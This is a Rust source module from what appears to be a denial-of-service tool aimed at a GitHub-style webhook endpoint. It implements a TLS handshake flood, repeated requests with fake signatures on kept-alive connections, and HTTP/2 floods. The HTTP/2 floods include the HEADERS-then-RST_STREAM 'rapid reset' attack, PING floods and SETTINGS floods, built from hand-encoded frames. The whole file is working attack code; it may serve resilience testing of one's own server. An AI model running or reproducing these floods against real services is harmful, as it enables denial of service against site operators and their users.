//! Attacks that are fast: as much as the attacker's core can send.

use std::io;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::Ordering;

use rustls::ClientConfig;
use tokio::io::{AsyncReadExt, AsyncWriteExt, split};
use tokio::time::Instant;

use super::attacker::Attack;
use super::wire;

/// Frames in one write.
const BURST: u32 = 100;

/// A whole handshake for nothing.
pub async fn handshake(attack: &Attack, from: Ipv4Addr, tls: &Arc<ClientConfig>) -> io::Result<()> {
    let stream = wire::tls(wire::tcp(from, attack.port, None).await?, tls).await?;
    attack.count(&attack.opened);
    drop(stream);
    Ok(())
}

/// Requests whose signature is nobody's, one after the other on a kept connection.
pub async fn junk(attack: &Attack, from: Ipv4Addr, tls: &Arc<ClientConfig>) -> io::Result<()> {
    let mut stream = wire::tls(wire::tcp(from, attack.port, None).await?, tls).await?;
    attack.count(&attack.opened);
    let request = wire::webhook(&"0".repeat(64), 0, &wire::body());
    let mut buffer = Vec::with_capacity(1024);
    while !attack.is_over() {
        stream.write_all(&request).await?;
        stream.flush().await?;
        attack.count(&attack.sent);
        let (_, stays) = wire::answer(&mut stream, &mut buffer).await?;
        attack.count(&attack.answered);
        if !stays {
            break;
        }
    }
    Ok(())
}

/// HTTP/2 frames that cost the other side more than they cost here. What it says is read and thrown away.
pub async fn frames(
    attack: &Arc<Attack>,
    from: Ipv4Addr,
    tls: &Arc<ClientConfig>,
    of: &(dyn Fn(u32) -> Vec<u8> + Sync),
) -> io::Result<()> {
    let stream = wire::tls(wire::tcp(from, attack.port, None).await?, tls).await?;
    if stream.get_ref().1.alpn_protocol() != Some(b"h2") {
        return Err(io::ErrorKind::Unsupported.into());
    }
    attack.count(&attack.opened);
    let began = Instant::now();
    let (mut read, mut write) = split(stream);
    let reader = tokio::spawn(async move {
        let mut buffer = vec![0; 64 * 1024];
        while let Ok(1..) = read.read(&mut buffer).await {}
    });
    let flood = async {
        write.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
        write.write_all(&frame(4, 0, 0, &[])).await?;
        let mut number = 0;
        while !attack.is_over() && !reader.is_finished() {
            let burst: Vec<u8> = (number..number + BURST).flat_map(of).collect();
            number += BURST;
            write.write_all(&burst).await?;
            write.flush().await?;
            attack.sent.fetch_add(u64::from(BURST), Ordering::Relaxed);
        }
        io::Result::Ok(())
    };
    let ended = flood.await.is_err() || reader.is_finished();
    reader.abort();
    if ended {
        attack.lived(began.elapsed());
    }
    Ok(())
}

/// A request, taken back at once.
pub fn reset(number: u32) -> Vec<u8> {
    let stream = number * 2 + 1;
    [frame(1, 4, stream, &head()), frame(3, 0, stream, &[0, 0, 0, 8])].concat()
}

pub fn ping(_: u32) -> Vec<u8> {
    frame(6, 0, 0, &[7; 8])
}

pub fn settings(_: u32) -> Vec<u8> {
    frame(4, 0, 0, &[0, 3, 0, 0, 0, 9])
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// `POST /hooks/github` as HPACK has it without a dynamic table.
fn head() -> Vec<u8> {
    let literal = |index: u8, value: &str| [&[index, u8::try_from(value.len()).unwrap()], value.as_bytes()].concat();
    [vec![0x83, 0x87], literal(0x04, "/hooks/github"), literal(0x01, wire::NAME)].concat()
}
